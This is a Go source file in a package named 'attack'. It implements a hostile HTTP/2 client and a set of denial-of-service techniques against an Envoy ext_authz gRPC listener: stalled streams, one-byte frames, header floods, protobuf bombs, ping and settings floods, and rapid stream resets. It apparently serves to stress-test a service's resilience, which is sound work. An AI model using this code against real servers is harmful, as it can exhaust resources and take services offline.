// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// hostile is an HTTP/2 connection that keeps to the protocol and to the windows that the server grants, so that the server has
// no reason to close it.
type hostile struct {
	net.Conn
	framer  *http2.Framer
	headers bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32

	mutex sync.Mutex
	// windows are those of the streams; that of stream 0 is the connection's.
	windows map[uint32]int
	initial int
	// most is how many streams the server allows.
	most uint32
	done map[uint32]bool
	// ended is closed when the server has closed the connection.
	ended chan struct{}
}

// dialHTTP2 opens a connection. reads reports whether what the server sends is read.
func dialHTTP2(ctx context.Context, to target, reads bool) (*hostile, error) {
	connection, err := to.dial(ctx)
	if err != nil {
		return nil, err
	}
	h := &hostile{
		Conn: connection, framer: http2.NewFramer(connection, connection), stream: 1,
		windows: map[uint32]int{0: 65535}, initial: 65535, most: 100, done: map[uint32]bool{}, ended: make(chan struct{}),
	}
	h.encoder = hpack.NewEncoder(&h.headers)
	if err := h.greet(reads); err != nil {
		_ = connection.Close()
		return nil, err
	}
	return h, nil
}

// greet exchanges settings, and goes on reading if it is asked to.
func (h *hostile) greet(reads bool) error {
	if _, err := io.WriteString(h, http2.ClientPreface); err != nil {
		return err
	}
	if err := h.framer.WriteSettings(); err != nil || !reads {
		return err
	}
	frame, err := h.framer.ReadFrame()
	if err != nil {
		return err
	}
	h.take(frame)
	go func() {
		for {
			frame, err := h.framer.ReadFrame()
			if err != nil {
				_ = h.Close()
				close(h.ended)
				return
			}
			h.take(frame)
		}
	}()
	return h.framer.WriteSettingsAck()
}

func (h *hostile) take(frame http2.Frame) {
	h.mutex.Lock()
	defer h.mutex.Unlock()
	switch f := frame.(type) {
	case *http2.WindowUpdateFrame:
		h.window(f.StreamID)
		h.windows[f.StreamID] += int(f.Increment)
	case *http2.SettingsFrame:
		if value, ok := f.Value(http2.SettingInitialWindowSize); ok {
			h.initial = int(value)
		}
		if value, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
			h.most = value
		}
	case *http2.RSTStreamFrame:
		h.done[f.StreamID] = true
	case *http2.HeadersFrame:
		if f.StreamEnded() {
			h.done[f.StreamID] = true
		}
	}
}

func (h *hostile) window(stream uint32) int {
	if _, known := h.windows[stream]; !known {
		h.windows[stream] = h.initial
	}
	return h.windows[stream]
}

// open begins a call of ext_authz with further headers, and returns its stream.
func (h *hostile) open(further ...hpack.HeaderField) (uint32, error) {
	h.headers.Reset()
	fields := append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "verifier"},
		{Name: ":path", Value: "/envoy.service.auth.v3.Authorization/Check"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, further...)
	for _, field := range fields {
		if err := h.encoder.WriteField(field); err != nil {
			return 0, err
		}
	}
	stream := h.stream
	h.stream += 2
	block := h.headers.Bytes()
	first := min(len(block), 16<<10)
	err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block[:first], EndHeaders: first == len(block)})
	for block = block[first:]; err == nil && len(block) > 0; {
		n := min(len(block), 16<<10)
		err = h.framer.WriteContinuation(stream, n == len(block), block[:n])
		block = block[n:]
	}
	return stream, err
}

// send sends what the windows allow of some bytes, in frames of a size, and returns the rest.
func (h *hostile) send(stream uint32, content []byte, frame int) ([]byte, error) {
	h.mutex.Lock()
	allowed := min(h.windows[0], h.window(stream), len(content))
	if h.done[stream] {
		allowed = 0
	}
	if allowed <= 0 {
		h.mutex.Unlock()
		return content, nil
	}
	h.windows[0] -= allowed
	h.windows[stream] -= allowed
	h.mutex.Unlock()
	var frames bytes.Buffer
	framer := http2.NewFramer(&frames, nil)
	for sent := 0; sent < allowed; sent += frame {
		if err := framer.WriteData(stream, false, content[sent:min(sent+frame, allowed)]); err != nil {
			return nil, err
		}
	}
	_, err := h.Write(frames.Bytes())
	return content[allowed:], err
}

// unfinished sends messages that lack their last byte on as many streams as the server allows, at most some.
func (h *hostile) unfinished(ctx context.Context, streams, size, frame int) error {
	message := make([]byte, 5+size-1)
	binary.BigEndian.PutUint32(message[1:], uint32(size))
	rests := map[uint32][]byte{}
	for range min(streams, int(h.most)) {
		stream, err := h.open()
		if err != nil {
			return err
		}
		rests[stream] = message
	}
	for ctx.Err() == nil && !h.allDone(rests) {
		for stream, rest := range rests {
			remaining, err := h.send(stream, rest, frame)
			if err != nil {
				return err
			}
			rests[stream] = remaining
		}
		rest(ctx, 100*time.Millisecond)
	}
	return nil
}

func (h *hostile) allDone(rests map[uint32][]byte) bool {
	h.mutex.Lock()
	defer h.mutex.Unlock()
	for stream := range rests {
		if !h.done[stream] {
			return false
		}
	}
	return true
}

// manyHeaders are different names, as many as fit into a list of a size by HTTP/2's count.
func manyHeaders(size int) (fields []hpack.HeaderField) {
	for i := 0; size > 0; i++ {
		fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("x%x", i), Value: ""})
		size -= int(fields[i].Size())
	}
	return fields
}

// http2Attacks are what a client without a key can do to the gRPC listener. Each runs on one connection until it fails.
var http2Attacks = map[string]func(ctx context.Context, to target) error{
	"idle connections": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error {
			stream, err := h.open()
			if err != nil {
				return err
			}
			if err := h.framer.WriteData(stream, true, make([]byte, 5)); err != nil {
				return err
			}
			select {
			case <-h.ended:
			case <-ctx.Done():
			}
			return nil
		})
	},
	"messages that are never finished": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error { return h.unfinished(ctx, 300, 1<<20-100, 16<<10) })
	},
	"messages of allowed size that are never finished": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error { return h.unfinished(ctx, 100, 64<<10, 1025) })
	},
	"messages in frames of one byte": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error { return h.unfinished(ctx, 100, 60<<10, 1) })
	},
	"many headers": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error {
			rests, fields := map[uint32][]byte{}, manyHeaders(7<<10)
			for range 100 {
				stream, err := h.open(fields...)
				if err != nil {
					return err
				}
				rests[stream] = nil
			}
			for ctx.Err() == nil && !h.allDone(rests) {
				rest(ctx, 100*time.Millisecond)
			}
			return nil
		})
	},
	"messages of empty objects": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error { return h.bombs(ctx) })
	},
	"answers that are not read": func(ctx context.Context, to target) error {
		h, err := dialHTTP2(ctx, to, false)
		if err != nil {
			return err
		}
		defer func() { _ = h.Close() }()
		settings := make([]http2.Setting, 2000)
		for i := range settings {
			settings[i] = http2.Setting{ID: http2.SettingID(0x1000 + i), Val: 1}
		}
		_ = h.SetDeadline(time.Now().Add(15 * time.Second))
		for i := 0; ctx.Err() == nil && err == nil; i++ {
			if i%1000 == 999 {
				err = h.framer.WriteSettings(settings...)
				continue
			}
			err = h.framer.WritePing(false, [8]byte{})
		}
		return err
	},
	"streams that are reset": func(ctx context.Context, to target) error {
		return withHTTP2(ctx, to, func(h *hostile) error {
			fields := manyHeaders(2 << 10)
			for ctx.Err() == nil {
				stream, err := h.open(fields...)
				if err != nil {
					return err
				}
				if err := h.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
					return err
				}
			}
			return nil
		})
	},
}

// bombs sends finished messages that describe as many empty objects as possible: entries of header_map.headers.
func (h *hostile) bombs(ctx context.Context) error {
	const size = 60 << 10
	nested := func(field byte, content []byte) []byte {
		return append(binary.AppendUvarint([]byte{field<<3 | 2}, uint64(len(content))), content...)
	}
	// attributes(1).request(4).http(2).header_map(13).headers(1): each is two bytes.
	message := nested(1, nested(4, nested(2, nested(13, bytes.Repeat([]byte{1<<3 | 2, 0}, size/2)))))
	framed := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
	for ctx.Err() == nil {
		rests := map[uint32][]byte{}
		for range 50 {
			stream, err := h.open()
			if err != nil {
				return err
			}
			rests[stream] = framed
		}
		for ctx.Err() == nil && !h.allDone(rests) {
			for stream, rest := range rests {
				if len(rest) == 0 {
					continue
				}
				remaining, err := h.send(stream, rest, 16<<10)
				if err != nil {
					return err
				}
				if rests[stream] = remaining; len(remaining) == 0 {
					if err := h.framer.WriteData(stream, true, nil); err != nil {
						return err
					}
				}
			}
			rest(ctx, 10*time.Millisecond)
		}
	}
	return nil
}

func withHTTP2(ctx context.Context, to target, do func(*hostile) error) error {
	h, err := dialHTTP2(ctx, to, true)
	if err != nil {
		return err
	}
	defer func() { _ = h.Close() }()
	return do(h)
}

func rest(ctx context.Context, span time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(span):
	}
}
